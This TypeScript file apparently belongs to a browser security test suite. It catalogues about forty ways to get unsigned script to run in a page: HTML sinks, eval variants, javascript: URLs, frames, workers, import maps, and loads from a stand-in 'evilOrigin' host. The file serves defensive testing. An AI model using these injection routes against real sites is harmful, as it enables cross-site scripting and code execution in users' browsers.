import type { Attack } from './Attack';

const appendElement = 'document.body.appendChild(document.createElement';

/** Attacks that run an unsigned script. Each of them tries to run `code`. */
export const scriptAttacks: Readonly<Record<string, Attack>> = {
  'an inline script': ({ code }) =>
    `const s = document.createElement('script'); s.text = ${code}; document.body.append(s)`,
  'an inline module': ({ code }) =>
    `const s = document.createElement('script'); s.type = 'module'; s.text = ${code}; document.body.append(s)`,
  'an SVG script': ({ code }) =>
    `const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.textContent = ${code};
     const g = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); g.append(s); document.body.append(g)`,
  'an onclick attribute': ({ code }) =>
    `const b = ${appendElement}('button')); b.setAttribute('onclick', ${code}); b.click(); b.remove()`,
  'an onerror attribute': ({ code }) =>
    `const i = ${appendElement}('img')); i.setAttribute('onerror', ${code}); i.src = 'data:,'; await settled(i); i.remove()`,
  'HTML through innerHTML': ({ markup }) => `${appendElement}('div')).innerHTML = ${markup}`,
  'HTML through outerHTML': ({ markup }) => `${appendElement}('div')).outerHTML = ${markup}`,
  'HTML through insertAdjacentHTML': ({ markup }) =>
    `document.body.insertAdjacentHTML('beforeend', ${markup})`,
  'HTML through setHTMLUnsafe': ({ markup }) => `${appendElement}('div')).setHTMLUnsafe(${markup})`,
  'HTML through a range': ({ markup }) =>
    `document.body.append(document.createRange().createContextualFragment(${markup}))`,
  'HTML through DOMParser': ({ markup }) =>
    `document.body.append(...new DOMParser().parseFromString(${markup}, 'text/html').body.childNodes)`,
  'a frame with srcdoc': ({ markup }) => `${appendElement}('iframe')).srcdoc = ${markup}`,
  eval: ({ code }) => `eval(${code})`,
  'indirect eval': ({ code }) => `(0, eval)(${code})`,
  'new Function': ({ code }) => `new Function(${code})()`,
  'the constructor of async functions': ({ code }) => `await (async () => undefined).constructor(${code})()`,
  'setTimeout with text': ({ code }) => `setTimeout(${code})`,
  'a module from a data URL': ({ code }) =>
    `await import('data:text/javascript,' + encodeURIComponent(${code}))`,
  'a module from a blob URL': ({ scriptUrl }) => `await import(${scriptUrl})`,
  'a module from another origin': ({ evilOrigin }) => `await import('${evilOrigin}/module.js')`,
  'a script from a data URL': ({ code }) =>
    `const s = ${appendElement}('script')); s.src = 'data:text/javascript,' + encodeURIComponent(${code}); await settled(s)`,
  'a script from a blob URL': ({ scriptUrl }) =>
    `const s = ${appendElement}('script')); s.src = ${scriptUrl}; await settled(s)`,
  'a script from another origin': ({ evilOrigin }) =>
    `const s = ${appendElement}('script')); s.src = '${evilOrigin}/script.js'; await settled(s)`,
  'a script with a src attribute': ({ evilOrigin }) =>
    `const s = document.createElement('script'); s.setAttribute('src', '${evilOrigin}/attribute.js'); document.body.append(s);
     await settled(s)`,
  'an import map': ({ scriptUrl }) =>
    `const s = document.createElement('script'); s.type = 'importmap';
     s.text = JSON.stringify({ imports: { evil: ${scriptUrl} } }); document.body.append(s); await import('evil')`,
  'a link with a javascript: URL': ({ code }) =>
    `const a = ${appendElement}('a')); a.href = 'javascript:' + ${code}; a.click()`,
  'a navigation to a javascript: URL': ({ code }) => `location.href = 'javascript:' + ${code}`,
  'a frame with a javascript: URL': ({ code }) =>
    `const f = document.createElement('iframe'); f.src = 'javascript:parent.' + ${code}; document.body.append(f)`,
  'a form with a javascript: URL': ({ code }) =>
    `const f = ${appendElement}('form')); f.action = 'javascript:' + ${code}; f.submit()`,
  'eval in an empty frame': ({ code }) =>
    `${appendElement}('iframe')).contentWindow.eval('parent.' + ${code})`,
  'a script in an empty frame': ({ code }) =>
    `const f = ${appendElement}('iframe')); const s = f.contentDocument.createElement('script'); s.text = 'parent.' + ${code};
     f.contentDocument.body.append(s)`,
  'a frame with a blob URL': ({ pageUrl }) =>
    `const f = ${appendElement}('iframe')); f.src = ${pageUrl}; await settled(f)`,
  'a frame with a data URL': () =>
    `const f = ${appendElement}('iframe')); f.src = 'data:text/html,<script>parent.postMessage("ran","*")</script>'; await settled(f)`,
  'a frame with the page itself': () =>
    `const f = ${appendElement}('iframe')); f.src = '/'; await settled(f); if (f.contentDocument?.scripts.length) succeed()`,
  'a worker from a blob URL': ({ scriptUrl }) => `const w = new Worker(${scriptUrl}); await settled(w)`,
  'a shared worker': ({ scriptUrl }) => `const w = new SharedWorker(${scriptUrl}); await settled(w)`,
  'a plug-in': ({ evilOrigin }) =>
    `const o = ${appendElement}('object')); o.data = '${evilOrigin}/object'; await settled(o)`,
  'an embedded document': ({ evilOrigin }) =>
    `const o = ${appendElement}('embed')); o.src = '${evilOrigin}/embed'; await settled(o)`,
  WebAssembly: () =>
    `await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); succeed()`,
  'a new Trusted Types policy': () =>
    `trustedTypes.createPolicy('own', { createHTML: (text) => text }); succeed()`,
  'a base element': ({ evilOrigin }) =>
    `const b = document.createElement('base'); b.href = '${evilOrigin}/'; document.head.append(b);
     if (new URL('x', document.baseURI).origin === '${evilOrigin}') succeed(); b.remove()`,
  // Last, because a successful write replaces the document and ends the script.
  'HTML through document.write': ({ markup }) => `document.write(${markup})`,
};
